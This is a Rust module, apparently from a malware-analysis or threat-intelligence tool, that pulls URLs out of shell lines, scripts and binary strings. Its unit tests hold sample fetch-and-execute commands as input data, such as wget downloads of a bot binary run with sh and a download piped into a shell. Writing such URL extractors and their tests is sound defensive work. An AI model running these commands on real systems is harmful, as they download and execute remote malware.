//! URLs inside other bytes: a typed command line, a captured script, the strings of a program.
//!
//! Key function: [`find_urls`]. Shared by the lab (what a file names) and by intelligence (what a command
//! names), so that both see the same URLs. Nothing is normalised here. Syntax: RFC 3986, ASCII only.
use alloc::{string::String, vec::Vec};

/// The longest URL that is kept, in bytes; what follows is cut off.
pub const URL_MAX_BYTES: usize = 2048;

/// Schemes that bring files or carry commands; anything else is not looked for.
const SCHEMES: [&str; 4] = ["https", "http", "tftp", "ftp"];

/// Bytes that end a URL in a shell line, in a string table or in markup.
fn ends_url(byte: u8) -> bool {
    !byte.is_ascii_graphic() || b"\"'`;|<>(){}\\^$,".contains(&byte)
}

/// The distinct URLs in `bytes` in the order of first sight, at most `limit`.
///
/// A scheme is recognised in any case of letters. A lone `&` ends a URL only in front of another `&` or
/// at its end, because queries hold them too.
pub fn find_urls(bytes: &[u8], limit: usize) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let mut at = 0;
    while found.len() < limit {
        let Some(offset) = bytes.get(at..).and_then(|rest| rest.windows(3).position(|three| three == b"://"))
        else {
            break;
        };
        let colon = at + offset;
        at = colon + 3;
        let Some(scheme) = SCHEMES.iter().find(|scheme| ends_with_scheme(&bytes[..colon], scheme)) else {
            continue;
        };
        let rest = &bytes[at..bytes.len().min(at + URL_MAX_BYTES)];
        let end = rest.iter().position(|byte| ends_url(*byte)).unwrap_or(rest.len());
        let end = rest[..end].windows(2).position(|two| two == b"&&").unwrap_or(end);
        let tail = rest[..end].trim_ascii_end();
        let tail = tail.strip_suffix(b"&").unwrap_or(tail);
        at += end;
        let (Ok(text), true) = (core::str::from_utf8(tail), tail.first().is_some_and(|b| starts_host(*b)))
        else {
            continue;
        };
        let url = alloc::format!("{scheme}://{text}");
        if !found.contains(&url) {
            found.push(url);
        }
    }
    found
}

fn starts_host(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'['
}

/// `head` ends with the scheme and the scheme is not the end of a longer word.
fn ends_with_scheme(head: &[u8], scheme: &str) -> bool {
    let Some(start) = head.len().checked_sub(scheme.len()) else { return false };
    head[start..].eq_ignore_ascii_case(scheme.as_bytes())
        && !head[..start].last().is_some_and(|byte| byte.is_ascii_alphanumeric())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(input: &[u8], expect: &[&str]) {
        assert_eq!(find_urls(input, 8), expect, "{}", input.escape_ascii());
    }

    #[test]
    fn finds_urls_in_commands_and_strings() {
        check(b"cd /tmp; wget http://192.0.2.9/bot.mips; sh x", &["http://192.0.2.9/bot.mips"]);
        check(b"wget -O- HTTP://A.example:8080/x?a=1&b=2|sh", &["http://A.example:8080/x?a=1&b=2"]);
        check(
            b"curl https://a.example/1&&curl ftp://b.example/2 &",
            &["https://a.example/1", "ftp://b.example/2"],
        );
        check(
            b"\0http://192.0.2.1/%s\0xhttp://no.example/\0tftp://[2001:db8::1]/f\0",
            &["http://192.0.2.1/%s", "tftp://[2001:db8::1]/f"],
        );
        check(b"http:// http://- gopher://x.example/ ://", &[]);
        check(b"http://a.example/ http://a.example/", &["http://a.example/"]);
    }

    #[test]
    fn is_bounded() {
        let many: Vec<u8> =
            (0..100).flat_map(|i| alloc::format!("http://h{i}.example/ ").into_bytes()).collect();
        assert_eq!(find_urls(&many, 5).len(), 5);
        let mut long = b"http://".to_vec();
        long.resize(1 << 20, b'a');
        assert_eq!(find_urls(&long, 5)[0].len(), "http://".len() + URL_MAX_BYTES);
    }
}
